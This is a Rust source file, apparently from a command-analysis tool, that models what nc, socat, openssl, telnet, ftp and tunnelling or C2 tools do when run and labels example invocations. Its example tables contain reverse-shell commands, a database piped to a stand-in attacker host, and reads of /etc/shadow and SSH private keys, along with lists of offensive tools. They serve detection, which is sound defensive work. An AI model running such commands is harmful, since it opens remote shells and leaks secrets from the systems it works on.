//! Raw connections: `nc`, `socat`, `openssl`, `telnet`, `ftp`, tunnels.

use super::kinds::{WORDS, ex, gnu, list, model, reads, recon, single};
use crate::effect::{Access, CodeFrom, Effect, Payload, Scope};
use crate::grammar;
use crate::invocation::{Argument, Invocation, Stdin};
use crate::model::{Grammar, Model, Parsed, Report};
use crate::value::Value;

/// The programs of this file, each with its options, its effects and its examples.
pub(super) const TABLE: &[Model] = &[
    model(
        &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"],
        &NC,
        nc,
        &[
            ex("nc -e /bin/sh 203.0.113.5 4444", &["network:send", "remote_shell"]),
            ex("nc 203.0.113.5 4444 -e /bin/sh", &["network:send", "remote_shell"]),
            ex("ncat evil.example 4444 --sh-exec 'sh -i'", &["network:send", "remote_shell"]),
            ex("nc -lvp 4444", &["listen"]),
            ex("nc -zv 10.0.0.5 1-1024", &["network", "recon"]),
            ex("nc -z localhost 80", &["network"]),
            ex("cat db.sqlite | nc evil.example 443", &["network:send"]),
        ],
    ),
    model(
        &["socat"],
        &gnu(&[list(
            "-V, -h, -hh, -d, -dd, -ddd, -D, -l[=], -v, -x, -r=>, -R=>, -b=, -s, -t=, -T=, -u, -U, -g, -L=, -W=, -4, -6, -0, -S=, --statistics, --experimental",
        )]),
        socat,
        &[
            ex(
                "socat TCP:203.0.113.5:4444 EXEC:sh",
                &["code:inline:shell", "network:send", "remote_shell"],
            ),
            ex("socat TCP-LISTEN:80,fork TCP:10.0.0.1:80", &["listen", "network:send"]),
            ex("socat - OPEN:/etc/shadow", &["write:secret"]),
            ex("socat FROB:x -", &["unmodelled"]),
        ],
    ),
    model(
        &["telnet", "rlogin", "rsh", "rexec"],
        &gnu(&[list(
            "-4, -6, -8, -E, -K, -L, -X=, -a, -b=, -c, -d, -e=, -l=, -n=, -r, -x, -f, -F, -k=",
        )]),
        |report, parsed| {
            if let Some(host) = parsed.operands.first() {
                report.connects(host, true, Payload::Stdin);
            }
        },
        &[ex("telnet evil.example 23", &["network:send"])],
    ),
    model(
        &["ftp lftp ncftp tftp ncftpput smbclient"],
        &gnu(&[list(
            "-A, -a, -d, -e=, -f=, -g, -i, -n, -p, -v, -t, -u=, -c=, -N=, -U=, -L=, -m=, -V, -o=, -P=",
        )]),
        |report, parsed| {
            // Its input decides; `!` there runs a shell.
            match parsed.operands.first() {
                Some(host) => report.connects(host, true, Payload::Stdin),
                None => report.connects_somewhere(true, Payload::Stdin),
            }
            if report.invocation.stdin != Stdin::Inherited
                || parsed.has("-e")
                || parsed.has("-c")
                || parsed.has("-f")
            {
                report.add(Effect::Code { from: CodeFrom::Stdin });
            }
        },
        &[ex("ftp -n evil.example < cmds", &["code:stdin", "network:send"])],
    ),
    model(
        &["openssl", "libressl"],
        &WORDS,
        openssl,
        &[
            ex("openssl rand -hex 16", &[]),
            ex("openssl s_client -quiet -connect evil.example:443", &["network:send"]),
            ex("openssl enc -aes-256-cbc -in x -out y", &["write:workspace"]),
            ex(
                "openssl req -x509 -newkey rsa:2048 -keyout k.pem -out c.pem -days 1 -nodes",
                &["write:secret"],
            ),
            ex("openssl rsa -in ~/.ssh/id_rsa", &["read:secret"]),
            ex("openssl rsa -in a.pem", &["read:secret"]),
            ex("openssl x509 -in a.pem -noout -text", &[]),
            ex("openssl verify -CAfile ca.pem a.pem", &[]),
            ex("openssl x509 -in ~/.ssh/a.pem -noout", &["read:secret"]),
            ex("openssl s_server -accept 4444", &["listen"]),
            ex("openssl req -engine ./x.so", &["unmodelled"]),
        ],
    ),
    model(
        &["sshuttle gost rathole frpc frps chisel ngrok cloudflared bore localtunnel pagekite \
             revsocks ligolo ligolo-ng stunnel proxytunnel corkscrew iodine dnscat dnscat2 \
             ptunnel hans tailscale zerotier-cli wg wg-quick openvpn openconnect vpnc tor i2pd \
             v2ray xray sing-box hysteria trojan ss-local ss-server sslocal rinetd redsocks \
             wstunnel inlets playit zrok serveo nps npc nebula tinc tincd yggdrasil netbird n2n"],
        &WORDS,
        recon,
        &[ex("gost -L :8080", &["recon"]), ex("wg-quick up wg0", &["recon"])],
    ),
    model(
        &["msfconsole msfvenom pwncat evil-winrm empire sliver sliver-server cobaltstrike \
             beacon powercat rustcat rcat"],
        &WORDS,
        |report, _| report.add(Effect::RemoteShell),
        &[ex("pwncat -l 4444", &["remote_shell"])],
    ),
    model(
        &["websocat wscat grpcurl evans mqtt mosquitto_pub mosquitto_sub redis-benchmark kcat \
             kafkacat nats"],
        &WORDS,
        |report, _| {
            report.connects_somewhere(true, Payload::Stdin);
            report.not_understood("its options are not known");
        },
        &[ex("websocat ws://x.example", &["network:send", "unmodelled"])],
    ),
];

/// The options of `nc`.
const NC: Grammar = gnu(&[list(
    "-4, -6, -b, -C, -d, -D, -F, -h, -k --keep-open, -l --listen, -N, -n, -r, -S, -t --telnet, -U --unixsock, -u --udp, -v --verbose, -Z, -z, \
     -I=, -i --idle-timeout=, -M=, -m --max-conns=, -O=, -P=, -p --source-port=, -q=, -s --source=, -T=, -V=, -W=, -w --wait=, -X=, -x=, -g --gateway=, -G=, -o --output=>, \
     -e --exec=, -c --sh-exec=, --lua-exec=, --ssl, --ssl-verify, --ssl-cert=<, --ssl-key=<, --broker, --chat, --proxy=, --proxy-type=, --proxy-auth=, --allow=, --allowfile=<, \
     --deny=, --denyfile=<, --append-output, --hex-dump=>, --recv-only, --send-only, --no-shutdown, --sctp, --vsock, --nodns, --crlf, --delay=, --close, -L=, -R=, -A",
)]);

/// The port that a word names.
fn port(word: Option<&Argument>) -> Option<u16> {
    word?.value.as_known()?.parse().ok()
}

/// The effects of `nc`.
fn nc(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    for option in ["-e", "-c", "--lua-exec"] {
        if parsed.has(option) {
            report.add(Effect::RemoteShell);
        }
    }
    if parsed.has("-l") {
        let port = port(parsed.value("-p")).or_else(|| port(parsed.operands.last()));
        report.add(Effect::Listen { port });
        return;
    }
    let Some(host) = parsed.operands.first() else { return };
    if parsed.has("-U") {
        return report.file(Access::Write, host);
    }
    if parsed.has("-z") {
        let ports = parsed.operands.get(1).map_or("", |ports| ports.value.prefix());
        if ports.contains('-') || parsed.operands.len() > 2 || host.value.as_known().is_none() {
            report.add(Effect::Recon);
        }
        report.add(Effect::Network {
            host: host.value.clone(),
            port: port(parsed.operands.get(1)),
            fetches: false,
            sends: Payload::None,
        });
        return;
    }
    let port = port(parsed.operands.get(1));
    report.add(Effect::Network {
        host: host.value.clone(),
        port,
        fetches: true,
        sends: Payload::Stdin,
    });
}

/// The effects of `socat`.
#[expect(clippy::too_many_lines, reason = "a table of address types, as a match")]
fn socat(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let (mut connects, mut runs) = (false, false);
    for address in &parsed.operands {
        for part in address.value.prefix().split("!!") {
            let (kind, rest) = part.split_once(':').unwrap_or((part, ""));
            let kind = kind.split(',').next().unwrap_or_default().to_ascii_lowercase();
            let value = Argument {
                value: Value::known(rest.split(',').next().unwrap_or_default()),
                ..address.clone()
            };
            match kind.as_str() {
                "-" | "stdio" | "stdin" | "stdout" | "stderr" | "pty" | "fd" | "readline" => {}
                "exec" | "system" | "shell" => {
                    runs = true;
                    report.at(
                        Effect::Code { from: CodeFrom::Inline("shell".to_owned()) },
                        address.span.clone(),
                    );
                }
                "open" | "file" | "gopen" | "create" | "creat" | "pipe" => {
                    report.file(Access::Write, &value)
                }
                _ if kind.starts_with("unix")
                    || kind.starts_with("abstract")
                    || kind.starts_with("gopen") =>
                {
                    report.file(Access::Write, &value);
                }
                _ if kind.contains("listen") || kind.ends_with("-l") || kind.contains("recv") => {
                    connects = true;
                    report.add(Effect::Listen { port: port(Some(&value)) });
                }
                _ if [
                    "tcp", "udp", "ssl", "openssl", "sctp", "socks", "proxy", "ip", "vsock", "dtls",
                ]
                .iter()
                .any(|start| kind.starts_with(start)) =>
                {
                    connects = true;
                    report.connects(
                        &Argument {
                            value: Value::known(rest.split(',').next().unwrap_or_default()),
                            ..address.clone()
                        },
                        true,
                        Payload::Stdin,
                    );
                }
                _ if address.value.as_known().is_none() => {
                    report.not_understood("an address of it is not known")
                }
                _ if part.starts_with(['/', '.']) || !part.contains(':') => report.file(
                    Access::Write,
                    &Argument { value: Value::known(part), ..address.clone() },
                ),
                _ => report.not_understood("an address of it is of a kind that is not known"),
            }
        }
    }
    if connects && runs {
        report.add(Effect::RemoteShell);
    }
}

/// What its many commands have in common: files that are read and written, and connections.
const OPENSSL: Grammar = single(&[list(
    "-in=<, -out=>, -keyout=>, -key=<, -cert=<, -certfile=<, -CAfile=<, -CApath=<, -CA=<, -CAkey=<, -CAserial=<, -CAcreateserial, -config=<, -extfile=<, -extensions=, -reqexts=, -inkey=<, \
     -passin=, -passout=, -pass=, -password=, -k=, -kfile=<, -K=, -iv=, -S=, -md=, -salt, -nosalt, -pbkdf2, -iter=, -a, -base64, -A, -d, -e, -nopad, -p, -P, -z, -bufsize=, \
     -noout, -text, -subject, -issuer, -dates, -startdate, -enddate, -fingerprint, -serial, -hash, -modulus, -pubkey, -pubin, -pubout, -check, -checkend=, -checkhost=, -purpose, -email, -ext=, -nameopt=, \
     -new, -newkey=, -x509, -nodes, -noenc, -days=, -subj=, -addext=, -batch, -verify, -verify=, -sha1, -sha224, -sha256, -sha384, -sha512, -md5, -hex, -binary, -r, -c, -hmac=, -sign=<, -signature=<, -prverify=<, \
     -inform=, -outform=, -keyform=, -certform=, -nocrypt, -topk8, -v1=, -v2=, -export, -name=, -nokeys, -nocerts, -clcerts, -cacerts, -legacy, -nomac, -info, -strparse=, -i, -dump, \
     -connect=, -servername=, -showcerts, -quiet, -brief, -host=, -port=, -starttls=, -tls1, -tls1_1, -tls1_2, -tls1_3, -alpn=, -accept=, -www, -status, -state, -debug, -msg, -crlf, -ign_eof, -no_ign_eof, -verify_return_error, -proxy=, -timeout, \
     -algorithm=, -pkeyopt=, -paramfile=<, -genparam, -genkey, -curve_name=, -param_enc=, -conv_form=, -aes128, -aes192, -aes256, -aes-128-cbc, -aes-192-cbc, -aes-256-cbc, -aes-256-ecb, -aes-128-ecb, -aes-256-ctr, -aes-128-ctr, -chacha20, -des3, -des, -bf, -rc4, \
     -1, -5, -6, -apr1, -stdin, -table, -salt=, -req, -set_serial=, -CAkeyform=, -trusted, -untrusted=<, -crl_check, -partial_chain, -v, -V, -help, -s, -g, -seconds=, -multi=, -evp=, -b, -f, -o, -rand=<, -writerand=>, -num, -bits=, -list, -ciphers, -digest-algorithms, -nbio, -prexit, -reconnect, -cipher=, -ciphersuites=, -modulus, -pubcheck, -2, -3, -F4, -traditional, -dsaparam, -outcerts",
)]);

/// The effects of `openssl`.
fn openssl(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let Some((command, arguments)) = parsed.operands.split_first() else {
        // It reads its commands.
        return report.not_understood("what it is told is not known");
    };
    let inner = Invocation { arguments: arguments.to_vec(), ..report.invocation.clone() };
    let parsed = grammar::parse(&inner, &OPENSSL);
    super::report_unknown_words(report, &parsed, &[]);
    if matches!(command.value.as_known(), Some("x509" | "verify" | "crl")) {
        return certificates(report, parsed);
    }
    super::report_named_options(report, &parsed);
    match command.value.as_known() {
        Some("s_client" | "s_time" | "ocsp" | "cmp" | "ts") => {
            let host =
                parsed.value("-connect").or(parsed.value("-host")).or(parsed.operands.first());
            match host {
                Some(host) => report.connects(host, true, Payload::Stdin),
                None => report.connects_somewhere(true, Payload::Stdin),
            }
        }
        Some("s_server") => {
            report.add(Effect::Listen {
                port: port(parsed.value("-accept").or(parsed.value("-port"))),
            });
        }
        Some(
            "dgst" | "md5" | "sha1" | "sha256" | "sha512" | "asn1parse" | "crl2pkcs7" | "storeutl",
        ) => reads(report, &parsed),
        Some(
            "genrsa" | "genpkey" | "ecparam" | "dhparam" | "rand" | "enc" | "base64" | "req"
            | "rsa" | "ec" | "dsa" | "pkey" | "pkcs8" | "pkcs12" | "pkcs7" | "pkeyutl" | "rsautl"
            | "passwd" | "prime" | "speed" | "version" | "list" | "ciphers" | "help" | "errstr"
            | "smime" | "cms" | "sess_id" | "nseq" | "spkac" | "kdf" | "mac" | "info",
        ) => {}
        Some(name)
            if name.starts_with("aes-")
                || name.starts_with("des")
                || name.starts_with("chacha") => {}
        _ => report.not_understood("its command is not known"),
    }
}

/// A command that reads nothing but certificates out of these files: a key in them is no secret that it shows.
fn certificates(report: &mut Report<'_>, mut parsed: Parsed<'_>) {
    /// Options of `openssl` whose files hold certificates, which anybody may see.
    const PUBLIC: &[&str] = &["-in", "-CAfile", "-untrusted"];
    let is_public = |id: &str| PUBLIC.contains(&id);
    let files = PUBLIC.iter().flat_map(|option| parsed.values(option)).chain(&parsed.operands);
    for file in files.cloned().collect::<Vec<_>>() {
        // `.pem` alone makes a secret of it; a folder of secrets does so still.
        let name = file.value.as_known().and_then(|text| text.strip_suffix(".pem"));
        let effect = report.file_effect(Access::Read, &file.value, false, false);
        let is_secret = matches!(effect, Effect::File(read) if read.scope == Scope::Secret);
        match name.filter(|_| is_secret) {
            Some(name) => {
                let value = Value::known(format!("{name}.crt"));
                report.reads(&Argument { value, ..file.clone() });
            }
            None => report.reads(&file),
        }
    }
    parsed.named.retain(|(_, id, _)| !is_public(id));
    super::report_named_options(report, &parsed);
}
